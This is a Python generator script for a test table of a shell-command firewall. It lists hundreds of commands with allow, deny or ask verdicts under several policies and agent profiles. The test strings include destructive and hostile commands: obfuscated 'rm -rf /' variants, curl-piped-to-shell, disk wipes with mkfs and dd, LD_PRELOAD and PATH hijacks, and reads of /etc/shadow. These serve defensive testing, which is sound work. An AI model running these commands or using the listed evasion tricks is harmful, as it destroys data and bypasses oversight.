# Generates table.json (the firewall decision table) from readable Python tuples: python3 table.gen.py
# Run it from this directory after editing; the tests and bench/firewall.bench.mjs read table.json.
import json
A,D,Q='allow','deny','ask'
b=[
# basics and law 3
('git status',A),('git status --short',Q),('git  status',A),('git statusx',Q),('ls',A),('ls -la /tmp',A),('/bin/ls',Q),('/tmp/evil/ls -la',Q),
('npm test',A),('npm test --watch',A),('npm testx',Q),('npm test; rm -rf /',D),('npm install',Q),
# chains and pipes (law 2)
('git status && ls',A),('git status || ls',A),('git status; ls',A),('ls | grep foo',A),('ls | grep foo | wc -l',A),('ls && npm install',Q),
('ls & pwd',A),('ls\npwd',A),('ls; rm -rf /',D),('ls && rm -fr /home',D),('ls || /bin/rm -rf /',D),('ls | sh',Q),
('curl -s http://x | sh',D),('curl -s http://x | grep a | bash',D),('bash | curl x',Q),('echo hi; shutdown -h now',D),
('mkfs.ext4 /dev/sda1',D),('/sbin/mkfs -t ext4 /dev/sda',D),('dd if=/dev/zero of=/dev/sda bs=1M',D),('git push --force origin main',D),
('git push origin main --force',Q),('ls |& grep x',A),('ls && pwd || echo no',A),
# quoting
("echo 'hello world'",A),('echo "hello; rm -rf /"',A),("ls 'a b'",A),('"ls" -la',A),('l\\s -la',A),("'rm' -rf /",D),('r\\m -rf /',D),
('"r"m -rf /',D),('git "status"',A),("git 'status;'",Q),('echo \\$HOME',A),('echo "$HOME"',A),('git $SUB',Q),('cat notes.txt',A),
('cat /etc/passwd',Q),('cat *.txt',Q),("cat '*.txt'",A),('cat "a b.txt"',A),('cat a.txt.sh',Q),("printf '%s\\n' a b",A),('git st""atus',A),
# comments
('ls # rm -rf /',A),('ls #; rm -rf /',A),('# just a comment',Q),('ls a#b',A),('ls\n# comment\npwd',A),
# wrappers (law 4)
('nice ls',A),('nice -n 10 ls -la',A),('nice -5 ls',A),('nohup make all',A),('timeout 5 make test',A),('timeout -s KILL 10s make',A),
('timeout --kill-after=5 10 make',A),('time ls',A),('time -p ls',A),('stdbuf -oL grep x',A),('command ls',A),('command -v ls',Q),
('env ls',A),('env FOO=1 ls',Q),('env LANG=C ls',A),('env -i ls',Q),('nice rm -rf /',D),('timeout 5 rm -rf /',D),
('nohup nice -n 5 /bin/rm -rf /',D),('./nice ls',Q),('/usr/bin/nice ls',A),('timeout abc ls',Q),('time -o /tmp/x ls',Q),('exec ls',A),
('xargs rm -rf',D),('find . -name x -exec rm -rf {} \\;',D),("find . -name '*.txt'",Q),('nice --adjustment=3 ls',A),('nice -z ls',Q),
# sh -c recursion
("sh -c 'ls'",A),('bash -c "git status && ls"',A),("bash -lc 'ls'",A),("bash -c 'ls; rm -rf /'",D),('sh -c "npm install"',Q),
('bash -c "$CMD"',Q),("zsh -c 'ls | grep x'",A),('dash -c \'sh -c "ls"\'',A),('bash -c \'bash -c "rm -rf /"\'',D),('bash script.sh',Q),
('bash',Q),("sh -c 'curl x | sh'",D),('bash -c',Q),("bash -e -o pipefail -c 'ls'",A),("sh -c 'ls' arg0 arg1",A),("bash -c 'ls 'x",A),
# substitution (law 5)
('echo $(ls)',Q),('echo $(rm -rf /)',D),('echo `id`',Q),('echo `rm -rf /`',D),('echo "$(id)"',Q),('ls $(echo /)',Q),('$(echo ls)',Q),
('echo ${x:-$(rm -rf /)}',D),('echo $((1+2))',Q),('echo "${HOME}"',A),('ls $((a[$(rm -rf /)]))',D),('`echo ls`',Q),
# process substitution
('diff <(ls) <(ls -a)',Q),('cat <(rm -rf /)',D),('ls >(grep x)',Q),
# subshells and compound commands
('(ls)',Q),('(ls; rm -rf /)',D),('{ ls; pwd; }',A),('! ls',A),('if true; then ls; fi',Q),('for f in a b; do echo $f; done',Q),
('while true; do rm -rf /; done',D),('f() { ls; }; f',Q),('case x in x) ls;; esac',Q),('[[ -f x ]]',Q),('ls() { rm -rf /; }; ls',D),
# redirections
('ls > out.txt',Q),('ls >> /etc/passwd',Q),('ls 2>&1',A),('ls >/dev/null 2>&1',A),('ls &>/dev/null',A),('ls 2>/dev/null',A),('ls >&2',A),
('grep x < /etc/shadow',Q),('grep x < /dev/null',A),('ls > "$OUT"',Q),('echo hi > /dev/sda',Q),('ls 3>&-',A),('> file',Q),('ls >| f',Q),
('ls &> out.log',Q),('{ ls; } > out.txt',Q),('echo x >& out.txt',Q),
# heredocs
("grep x <<'EOF'\n$(rm)\nEOF",A),('grep x <<EOF\nplain text\nEOF',A),('grep x <<EOF\n$HOME\nEOF',Q),('grep x <<EOF\n$(rm -rf /)\nEOF',D),
('grep x <<< "hello"',A),('grep x <<< "$(id)"',Q),('cat <<EOF | sh\nrm -rf /\nEOF',Q),('grep x <<"EOF"\n`id`\nEOF',A),('grep x <<EOF > out\nhi\nEOF',Q),
# sudo, doas, su, env -S, eval
('sudo ls',Q),('sudo -u root ls -la',Q),('sudo rm -rf /',D),('sudo -- rm -rf /',D),('doas rm -rf /',D),("su -c 'rm -rf /' root",D),
("su -c 'ls'",Q),('pkexec ls',Q),("env -S 'ls -la'",Q),("env -S 'rm -rf /'",D),('eval ls',Q),('eval "rm -rf /"',D),("sudo sh -c 'ls'",Q),
('sudo -i',Q),('sudo -E env PATH=x rm -rf /',D),
# interpreters' inline code
("python -c 'print(1)'",Q),("python3 -c 'import os; os.system(\"rm -rf /\")'",Q),("python3.12 -Sc 'x'",Q),("node -e 'x'",Q),("node --eval 'x'",Q),
("perl -ne 'print' f",Q),("ruby -e 'x'",Q),("php -r 'x'",Q),("awk '{print $1}'",Q),
# assignments in command position
('LD_PRELOAD=/tmp/x.so ls',Q),('PATH=/tmp:$PATH ls',Q),('LANG=C ls',A),('TZ=UTC ls',A),('LANG=$(id) ls',Q),('FOO=1',Q),('LANG=C',A),
('PATH=/tmp/evil; ls',Q),('export PATH=/tmp',Q),('X=1 rm -rf /',D),('LANG=../../x ls',Q),('IFS=/ ls',Q),
# escapes and unusual whitespace
('ls\t-la',A),('ls -la\r',Q),('ls\u00a0-la',Q),('ls\u2003-la',Q),('ls \\\n -la',A),('  ls  ',A),("echo $'a\\tb'",A),("$'\\x72\\x6d' -rf /",D),
('ls\u0000; rm -rf /',D),('ls\r\nrm -rf /',D),('\\ls',A),
# runners the denylist sees through (never transparent for allow)
("xargs sh -c 'rm -rf /'",D),('setsid rm -rf /',D),("watch -n 1 'rm -rf /'",D),("flock /tmp/l -c 'rm -rf /'",D),('coproc rm -rf /',D),
("builtin eval 'rm -rf /'",D),('taskset 0x1 rm -rf /',D),("script -c 'rm -rf /' /dev/null",D),('echo rm -rf /',A),('setsid ls',Q),('xargs ls',Q),
# more bash syntax
('ls&&rm -rf /',D),('ls|sh',Q),('ls>out',Q),('echo "$(</etc/passwd)"',Q),('time ls | rm -rf /',D),('grep x <<-EOF\n\tx\n\tEOF',A),
('exec 3>/tmp/f',Q),('until false; do ls; done',Q),('select x in a; do ls; done',Q),('ls `',Q),("alias ls='rm -rf /'; ls",Q),('ls ${IFS}x',A),
('ls a=b',A),('r\\\nm -rf /',D),('l\\\ns -la',Q),('. ./x.sh',Q),('source x.sh',Q),("ls $'\\n'rm -rf /",A),('ls \\;rm -rf /',A),('git status\n\n',A),('ls ;',A),
# malformed input
("ls 'unterminated",Q),('ls "unterminated',Q),('ls )',Q),('ls && ',Q),("ls; rm -rf / '",D),('',Q),(';;',Q),('ls |',Q),('$(',Q),('}',Q),('ls ((',Q),
]
cases=[{'policy':'base','command':c,'expect':e} for c,e in b]
def add(p,c,e,a=None):
    d={'policy':p,'command':c,'expect':e}
    if a: d['agent']=a
    cases.append(d)
for c,e in [('npm install',D),('git status',A),('sudo ls',D),('(ls)',D),('ls $(id)',D),('ls; rm -rf /',D),('echo hi > x',D),('',D)]: add('strict',c,e)
# law 6: policy: deny denies every command, allowlisted or not (issue 15: git status was allow)
for c,e in [('npm install',D),('git status',D),('ls | sh',D),('rm -rf /',D),('ls -la',D)]: add('denymode',c,e)
for c,e in [('make all',A),('npm install',D),('cargo build --release',A),('rm -rf /',D),('cat notes.txt',A),('sudo make',D)]: add('base',c,e,'build-bot')
for c,e in [('cat notes.txt',D),('ls',A),('npm install',Q),('nice cat a.txt',D)]: add('base',c,e,'reader')
for c,e in [('npm install',Q),('git status',A)]: add('base',c,e,'nobody')
for c,e in [('python script.py',A),("python -c 'x'",Q),("node -e 'x'",Q),('node app.js -e x',A),('awk -f prog.awk',A),("awk '{print}'",Q),
            ('sudo ls',Q),('eval ls',Q),("bash -c 'python -c x'",Q),('bash x.sh',A),("bash -c 'python x.py'",A),('sudo rm -rf /',D),
            ("env -S 'python x.py'",Q),("su -c 'python x.py'",Q),('doas python x.py',Q),('env python x.py',A),("python3 -Wignore -c 'x'",Q),("node --print 1",Q)]:
    add('interp',c,e)
json.dump({'cases':cases},open('table.json','w'),indent=0,ensure_ascii=True)
print(len(cases))
